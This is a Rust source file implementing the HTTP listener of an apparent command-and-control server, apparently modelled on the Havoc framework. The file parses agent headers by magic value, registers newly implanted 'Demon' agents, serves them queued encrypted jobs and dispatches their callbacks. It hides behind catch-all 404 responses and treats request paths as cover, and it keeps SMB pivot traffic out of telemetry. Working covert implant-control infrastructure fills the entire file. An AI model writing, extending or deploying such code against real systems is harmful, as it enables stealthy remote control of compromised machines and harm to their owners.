//! Per-request protocol state machine and the listener's HTTP route.
//!
//! Every request is a POST to any path; the path is cover only. The body
//! decides everything: parse the header, classify by magic value, then
//! either answer a first-party agent (job poll, registration, callback) or
//! hand the request to a registered third-party family. Anything that does
//! not match answers 404. Configured response headers are sent on every
//! answer, 404s included.

use std::net::SocketAddr;
use std::sync::Arc;

use axum::Router;
use axum::body::Body;
use axum::extract::{ConnectInfo, State};
use axum::http::StatusCode;
use axum::response::{IntoResponse, Response};
use axum::routing::post;
use tokio_util::sync::CancellationToken;
use tokio_util::task::TaskTracker;

use outpost_common::protocol::{COMMAND_GET_JOB, DEMON_INIT, DEMON_MAGIC_VALUE};
use outpost_common::{
    AgentHeader, AgentRegistration, DemonJob, Packer, build_payload_message,
};

use crate::agent::{Agent, AgentOrigin};
use crate::config::ResponseHeaders;
use crate::ports::AgentRoutines;

/// Upper bound on a single request body.
pub const MAX_BODY_BYTES: usize = 16 * 1024 * 1024;

/// Status and body decided for one request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reply {
    pub status: StatusCode,
    pub body: Vec<u8>,
}

impl Reply {
    pub fn ok(body: Vec<u8>) -> Self {
        Self {
            status: StatusCode::OK,
            body,
        }
    }

    pub fn not_found() -> Self {
        Self {
            status: StatusCode::NOT_FOUND,
            body: Vec::new(),
        }
    }
}

pub struct Dispatcher {
    listener: String,
    headers: ResponseHeaders,
    routines: Arc<dyn AgentRoutines>,
    tasks: TaskTracker,
    shutdown: CancellationToken,
}

impl Dispatcher {
    /// `tasks` and `shutdown` own the background work a request may start
    /// (the last-seen refresher of a newly registered agent).
    pub fn new(
        listener: impl Into<String>,
        headers: ResponseHeaders,
        routines: Arc<dyn AgentRoutines>,
        tasks: TaskTracker,
        shutdown: CancellationToken,
    ) -> Self {
        Self {
            listener: listener.into(),
            headers,
            routines,
            tasks,
            shutdown,
        }
    }

    pub fn headers(&self) -> &ResponseHeaders {
        &self.headers
    }

    /// Decide the answer for one request body received from `peer`.
    pub fn handle(&self, body: &[u8], peer: SocketAddr) -> Reply {
        let header = match AgentHeader::parse(body) {
            Ok(header) => header,
            Err(e) => {
                tracing::debug!(%peer, error = %e, "invalid agent header");
                return Reply::not_found();
            }
        };

        // size counts everything after itself; a mismatch is tolerated
        if header.size as usize != body.len() - 4 {
            tracing::debug!(
                %peer,
                declared = header.size,
                received = body.len(),
                "declared request size differs from body",
            );
        }

        if header.data.len() <= 4 {
            tracing::debug!(%peer, "agent request too short to carry a command");
            return Reply::not_found();
        }

        let handled = if header.magic_value == DEMON_MAGIC_VALUE {
            self.handle_demon(header, peer)
        } else if self.routines.service_agent_exists(header.magic_value) {
            self.handle_service_agent(&header)
        } else {
            tracing::debug!(
                %peer,
                magic_value = %format_args!("{:#x}", header.magic_value),
                "unknown magic value",
            );
            None
        };

        handled.map_or_else(Reply::not_found, Reply::ok)
    }

    fn handle_demon(&self, mut header: AgentHeader, peer: SocketAddr) -> Option<Vec<u8>> {
        let command = header.data.parse_u32().ok()?;

        if self.routines.agent_exists(header.agent_id) {
            let agent = self.routines.agent_instance(header.agent_id)?;
            tracing::debug!(
                agent_id = %format_args!("{:08x}", header.agent_id),
                command = %format_args!("{command} ({command:x})"),
                "known agent",
            );

            if command == COMMAND_GET_JOB {
                return Some(self.get_job(&agent));
            }
            self.routines.task_dispatch(&agent, command, &header.data);
            return Some(Vec::new());
        }

        if command != DEMON_INIT {
            tracing::debug!(
                agent_id = %format_args!("{:08x}", header.agent_id),
                "unknown agent sent a non-registration command",
            );
            return None;
        }

        self.register(header, peer)
    }

    fn get_job(&self, agent: &Agent) -> Vec<u8> {
        agent.update_last_callback();

        let jobs = agent.drain_jobs();
        if jobs.is_empty() {
            return build_payload_message(&[DemonJob::no_job()], agent.keys());
        }

        let payload = build_payload_message(&jobs, agent.keys());
        // pivot traffic volume must not leak into callback telemetry
        if jobs.iter().any(DemonJob::is_smb_pivot) {
            tracing::debug!(agent_id = %format_args!("{:08x}", agent.id()), "smb pivot frame, size not reported");
        } else {
            // reported once the frame is built; hyper owns the write that follows
            self.routines.callback_size(agent, payload.len());
        }
        payload
    }

    fn register(&self, mut header: AgentHeader, peer: SocketAddr) -> Option<Vec<u8>> {
        let registration = match AgentRegistration::parse(header.agent_id, &mut header.data) {
            Ok(registration) => registration,
            Err(e) => {
                tracing::debug!(%peer, error = %e, "invalid registration payload");
                return None;
            }
        };

        let agent = Arc::new(Agent::new(
            registration,
            AgentOrigin {
                external_ip: peer.ip().to_string(),
                magic_value: header.magic_value,
                listener: self.listener.clone(),
            },
        ));

        if let Err(e) = self.routines.append_agent(Arc::clone(&agent)) {
            tracing::warn!(%peer, error = %e, "rejected registration");
            return None;
        }

        self.tasks.spawn(Arc::clone(&agent).refresh_last_seen(
            Arc::clone(&self.routines),
            self.shutdown.child_token(),
        ));

        let package = self.routines.event_new_agent(&agent);
        self.routines.event_append(&package);
        self.routines.event_broadcast(&package);

        Some(Packer::new(*agent.keys()).add_u32(agent.id()).build())
    }

    fn handle_service_agent(&self, header: &AgentHeader) -> Option<Vec<u8>> {
        let service = self.routines.service_agent(header.magic_value)?;
        let context = self
            .routines
            .agent_instance(header.agent_id)
            .map(|agent| agent.context());
        Some(service.send_response(context.as_ref(), header))
    }
}

// ===================================================================
// HTTP surface
// ===================================================================

/// Wildcard POST route in front of the dispatcher. Every other method or
/// path answers 404.
pub fn router(dispatcher: Arc<Dispatcher>) -> Router {
    let route = post(dispatch).fallback(not_found);
    Router::new()
        .route("/", route.clone())
        .route("/{*endpoint}", route)
        .fallback(not_found)
        .with_state(dispatcher)
}

async fn dispatch(
    State(dispatcher): State<Arc<Dispatcher>>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    body: Body,
) -> Response {
    // a failed read is answered like an empty body: 404 from the parser
    let body = match axum::body::to_bytes(body, MAX_BODY_BYTES).await {
        Ok(bytes) => bytes,
        Err(e) => {
            tracing::debug!(%peer, error = %e, "error while reading request");
            axum::body::Bytes::new()
        }
    };

    let reply = dispatcher.handle(&body, peer);
    (reply.status, dispatcher.headers().to_header_map(), reply.body).into_response()
}

async fn not_found(State(dispatcher): State<Arc<Dispatcher>>) -> Response {
    (StatusCode::NOT_FOUND, dispatcher.headers().to_header_map()).into_response()
}
